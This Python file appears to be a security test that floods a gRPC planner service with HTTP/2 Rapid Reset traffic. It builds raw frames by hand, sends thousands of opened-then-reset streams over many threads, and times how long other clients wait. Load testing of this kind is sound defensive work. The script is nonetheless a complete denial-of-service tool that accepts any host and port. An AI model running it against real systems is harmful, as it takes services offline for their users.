"""HTTP/2 streams that are opened and reset at once: what they cost the planner, and who else is still answered.

    python tests/security/rapid_reset.py HOST:PORT [CONNECTIONS] [STREAMS]
"""

import socket
import struct
import sys
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field that is neither indexed nor compressed."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(path: str) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers"), ("filler", "f" * 100)]  # fmt: skip
    return b"".join(literal(name, value) for name, value in fields)


def attack(address: str, streams: int) -> int:
    """Bytes sent before the planner was done, or had closed the connection."""
    host, _, port = address.rpartition(":")
    headers = request_headers("/stagewright.v1.PlannerService/ListPlanners")
    sent = 0
    with socket.create_connection((host, int(port)), timeout=30) as connection:
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for first in range(0, streams, BATCH):
                block = b""
                for i in range(first, min(first + BATCH, streams)):
                    block += frame(HEADERS, 4, 2 * i + 1, headers)
                    block += frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                connection.sendall(block)
                sent += len(block)
            connection.sendall(frame(PING, 0, 0, b"12345678"))
            connection.settimeout(60)
            # The answer to the ping says that all before it was read.
            while (received := connection.recv(1 << 16)) and b"12345678" not in received:
                pass
        except OSError:
            pass  # It is the planner's right to close what floods it, or to be slow.
    return sent


def answer_seconds(address: str) -> float:
    start = time.monotonic()
    with grpc.insecure_channel(address) as channel:
        channel.unary_unary("/stagewright.v1.PlannerService/ListPlanners")(b"", timeout=120, wait_for_ready=True)
    return time.monotonic() - start


def flood(address: str, connections: int, streams: int) -> tuple[int, float]:
    """Bytes sent, and the longest time that another client waited for an answer meanwhile and just after."""
    sent: list[int] = []
    threads = [
        threading.Thread(target=lambda: sent.append(attack(address, streams)), daemon=True) for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    longest = answer_seconds(address)
    while any(thread.is_alive() for thread in threads):
        longest = max(longest, answer_seconds(address))
    return sum(sent), max(longest, answer_seconds(address))


if __name__ == "__main__":
    target, *numbers = sys.argv[1:]
    bytes_sent, seconds = flood(target, *(map(int, numbers) if numbers else (10, 5000)))
    print(f"{bytes_sent / 2**20:.1f} MiB of resets, others waited {seconds:.2f} s at most")
